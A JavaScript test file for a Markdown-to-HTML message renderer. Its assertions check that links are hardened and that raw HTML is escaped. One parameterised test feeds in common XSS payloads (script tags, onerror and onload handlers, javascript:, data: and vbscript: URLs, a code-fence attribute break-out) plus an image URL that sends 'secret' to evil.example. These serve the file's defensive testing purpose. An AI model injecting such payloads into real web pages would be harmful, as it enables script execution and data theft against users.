import { messageHtml } from './message-html.js';

describe('messageHtml', () => {
  it('renders Markdown', () => {
    expect(messageHtml('**Yes**, see [the page](https://example.com).\n\n- one\n- two')).toBe(
      '<p><strong>Yes</strong>, see <a href="https://example.com" rel="noopener noreferrer nofollow" target="_blank">the page</a>.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
    );
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![](https://evil.example/?q=secret)',
    '<a href="vbscript:x" onclick="y">z</a>',
    '```html" onmouseover="alert(1)\n<b>\n```',
    '[x]: javascript:alert(1)\n\n[x]',
  ])('lets nothing run or be fetched from %p', (content) => {
    const html = messageHtml(content);
    expect(html).not.toMatch(/<(script|img|svg|iframe|style|object)/i);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style|src)=/i);
    expect(html).not.toMatch(/<[^>]*href="(?!https?:|mailto:|tel:)/i);
  });

  it('shows raw HTML as the text that it is', () => {
    expect(messageHtml('a <b>bold</b> move')).toBe('<p>a &lt;b&gt;bold&lt;/b&gt; move</p>');
  });
});
